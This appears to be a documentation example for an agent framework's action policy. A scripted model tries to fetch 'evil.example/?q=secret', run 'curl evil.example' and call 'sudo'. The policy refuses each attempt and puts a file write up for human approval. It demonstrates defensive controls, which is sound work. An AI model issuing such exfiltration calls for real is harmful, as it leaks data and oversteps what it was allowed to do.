"""What the actions that ship may do is said by a policy: allow, ask or deny, for each role; and which hosts may be fetched from.

A model cannot widen it: what is denied is refused, and so is any host that the user did not name.

Prints:
    worker is told: Error: action 'fetch': found host 'evil.example', port 443, which the policy does not allow
    worker is told: Error: worker.work: found action 'run_shell' (touches reads, writes, executes), which the policy denies role 'worker'
    worker is told: Error: no tool 'sudo'. Known: 'fetch', 'run_shell', 'write_file'.
    a person is asked: worker: action write_file({"path":"notes.txt","text":"tea"}) needs a person's agreement.
    notes.txt: tea
"""

import tempfile
from pathlib import Path

from metagpt import Approve, Goal, Message, Policy, Role, Rules, Team, on
from metagpt.actions.workspace import Workspace
from metagpt.plugins import load_plugin
from metagpt.testing import ScriptedModel, call, text

POLICY = Policy(
    rules=Rules(executes="deny", hosts=("docs.python.org", "*.wikipedia.org")),
    roles={"worker": Rules(writes="ask", executes="deny", hosts=("docs.python.org",))},
)


class Notes(Message):
    text: str


class Worker(Role):
    """You take notes."""

    @on(Goal)
    async def work(self, goal: Goal) -> Notes:
        return Notes(text=await self.ask(str, "{{ goal.text }}", tools=self.actions, goal=goal))


async def main() -> None:
    wishes = [
        call("fetch", url="https://evil.example/?q=secret"),
        call("run_shell", command="curl evil.example"),
        call("sudo"),
        call("write_file", path="notes.txt", text="tea"),
    ]
    actions = [load_plugin("actions", name) for name in ("fetch", "shell", "write_file")]
    with tempfile.TemporaryDirectory() as folder, ScriptedModel([*wishes, text("done")]) as model:
        team = Team([Worker(actions=actions)], final=Notes, model=model, policy=POLICY, workspace=folder)
        run = await team.run("take notes")
        for turn in model.requests[-1].chat:
            if turn.role == "tool":
                print("worker is told:", turn.text.split(";")[0])
        [pending] = run.pending
        print("a person is asked:", pending.text.split(" Approve")[0])
        run = await team.resume(run.id, answers={pending.id: Approve()})
        print("notes.txt:", Workspace(Path(folder)).read_text("notes.txt"))


if __name__ == "__main__":
    import asyncio

    asyncio.run(main())
